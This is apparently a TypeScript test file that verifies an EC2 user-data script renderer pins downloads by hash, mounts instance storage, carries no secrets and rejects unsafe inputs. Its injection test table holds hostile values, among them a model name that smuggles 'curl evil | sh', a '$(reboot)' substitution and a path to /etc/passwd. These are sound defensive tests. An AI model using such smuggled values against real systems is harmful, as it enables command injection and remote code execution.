import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { projectNames, TAG_STATE } from "../../../src/infra/names.js";
import { renderUserData, USER_DATA_LIMIT_BYTES, type UserDataParams } from "../../../src/deployer/launch/user-data.js";

const TEMPLATE = readFileSync(path.resolve(import.meta.dirname, "../../../scripts/user-data.sh.tpl"), "utf8");
const SHA = "a".repeat(64);
const MANIFEST_SHA = "b".repeat(64);
const params: UserDataParams = { project: "my-app", model: "Qwen/Qwen2.5-7B-Instruct", bucket: "my-app-models", binarySha256: SHA, manifestSha256: MANIFEST_SHA, region: "us-east-1", bucketOwner: "123456789012" };

describe("user-data rendering", () => {
  it("embeds the project, model, bucket, region and the binary's expected SHA-256; no placeholder left", () => {
    const script = renderUserData(TEMPLATE, params);
    expect(script.startsWith("#!/bin/bash\n")).toBe(true);
    expect(script).toContain(`BINARY_SHA256='${SHA}'`);
    expect(script).toContain("PROJECT='my-app'");
    expect(script).toContain("MODEL='Qwen/Qwen2.5-7B-Instruct'");
    expect(script).toContain("BUCKET='my-app-models'");
    expect(script).toContain("AWS_REGION='us-east-1'");
    expect(script).toContain("BUCKET_OWNER='123456789012'");
    expect(script).not.toMatch(/\{\{/);
    expect(script).toContain('"$INSTALL_PREFIX/synkti" --project-name "$PROJECT" --model "$MODEL" || status=$?');
  });

  it("downloads the keys named by the pinned hashes, never the overwritable latest ones", () => {
    const script = renderUserData(TEMPLATE, params);
    expect(script).toContain(`BINARY_KEY='bin/synkti-${SHA}'`);
    expect(script).toContain(`MANIFEST_SHA256='${MANIFEST_SHA}'`);
    expect(script).toContain('SYNKTI_EXPECTED_MANIFEST_SHA256="$MANIFEST_SHA256"');
    // Every S3 read of the binary or the manifest goes through the pinned keys.
    expect(script).not.toMatch(/s3:\/\/\$BUCKET\/bin\/synkti["' ]/);
    expect(script).not.toContain("$MODEL/manifest.json");
  });

  it("keeps only what comes before synkti can be trusted: the weights are the verified binary's job", () => {
    const script = renderUserData(TEMPLATE, params);
    // The binary, owner-checked, then its SHA-256, then the agent with the manifest pin.
    expect(script).toContain('aws s3api get-object --bucket "$BUCKET" --key "$BINARY_KEY" --expected-bucket-owner "$BUCKET_OWNER"');
    expect(script.indexOf("binary verified")).toBeLessThan(script.indexOf('"$INSTALL_PREFIX/synkti" --project-name'));
    expect(script).not.toMatch(/aws s3 (sync|cp)/);
    expect(script).not.toContain("sha256sum --check");
    expect(script).not.toContain("python3");
  });

  it("puts the models folder on instance-store NVMe when there is one, never in the local cloud", () => {
    const script = renderUserData(TEMPLATE, params);
    expect(script).toContain("AmazonEC2NVMeInstanceStorage");
    expect(script).toMatch(/mdadm --create \/dev\/md\/synkti --run --level=0/);
    expect(script).toContain('mount -o noatime "$target" "$MODELS_DIR"');
    expect(script).toContain('[ -n "${SYNKTI_MODELS_DIR:-}" ] || mount_instance_store');
    // The weights' size, so a store smaller than the model is left alone; 0 when the launch did not say.
    expect(script).toContain("WEIGHTS_BYTES='0'");
    expect(renderUserData(TEMPLATE, { ...params, weightsBytes: 15_234_567_890 })).toContain("WEIGHTS_BYTES='15234567890'");
    expect(() => renderUserData(TEMPLATE, { ...params, weightsBytes: 1.5 })).toThrow(/weightsBytes '1.5' is not a whole number/);
  });

  it("the failure record's prefix and the state tag come from src/infra/names.ts, as the agent and the deployer use them", () => {
    const script = renderUserData(TEMPLATE, params);
    expect(script).toContain(`LOGS_PREFIX='${projectNames(params.project).logsPrefix}'`);
    expect(script).toContain(`STATE_TAG='${TAG_STATE}'`);
    expect(TEMPLATE).not.toContain("checkpoints/");
    expect(TEMPLATE).not.toContain(TAG_STATE);
  });

  it("takes the install prefix and models folder from variables with production defaults", () => {
    const script = renderUserData(TEMPLATE, params);
    expect(script).toContain('INSTALL_PREFIX="${SYNKTI_INSTALL_PREFIX:-/usr/local/bin}"');
    expect(script).toContain('MODELS_DIR="${SYNKTI_MODELS_DIR:-/models}"');
  });

  it("is valid bash (bash -n)", () => {
    execFileSync("bash", ["-n"], { input: renderUserData(TEMPLATE, params) });
  });

  it("stays under EC2's 16 KB limit with the longest names", () => {
    const long = { ...params, project: "a".repeat(40), model: `${"o".repeat(60)}/${"m".repeat(67)}`, bucket: `${"b".repeat(40)}-models`, region: "ap-southeast-7" };
    const script = renderUserData(TEMPLATE, long);
    expect(Buffer.byteLength(script)).toBeLessThan(USER_DATA_LIMIT_BYTES);
    expect(() => renderUserData(TEMPLATE + "#".repeat(USER_DATA_LIMIT_BYTES), params)).toThrow(/at most 16384/);
  });

  it("carries no secrets, whatever the deployer's environment holds", () => {
    const saved = { ...process.env };
    Object.assign(process.env, { AWS_ACCESS_KEY_ID: "AKIAIOSFODNN7EXAMPLE", AWS_SECRET_ACCESS_KEY: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", AWS_SESSION_TOKEN: "FwoGZXIvYXdzEXAMPLETOKEN" });
    try {
      const script = renderUserData(TEMPLATE, params);
      expect(script).not.toMatch(/AKIA[0-9A-Z]{16}|ASIA[0-9A-Z]{16}/);
      expect(script).not.toMatch(/aws_secret_access_key|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|aws_session_token|AWS_ACCESS_KEY_ID/i);
      expect(script).not.toContain("wJalrXUtnFEMI");
      expect(script).not.toContain("FwoGZXIvYXdz");
      expect(script).not.toMatch(/BEGIN [A-Z ]*PRIVATE KEY/);
    } finally {
      process.env = saved;
    }
  });

  it.each([
    ["model", "m'; curl evil | sh; '"],
    ["model", "$(reboot)"],
    ["project", "My App"],
    ["binarySha256", "abc"],
    ["manifestSha256", "../../etc/passwd"],
    ["region", "us-east-1'"],
    ["bucket", "b'x"],
  ] as const)("refuses a %s that could break out of its quotes: %s", (key, value) => {
    expect(() => renderUserData(TEMPLATE, { ...params, [key]: value })).toThrow(/user-data/);
  });

  it("refuses a template with an unknown placeholder", () => {
    expect(() => renderUserData("{{nope}}", params)).toThrow(/unknown placeholder/);
  });
});
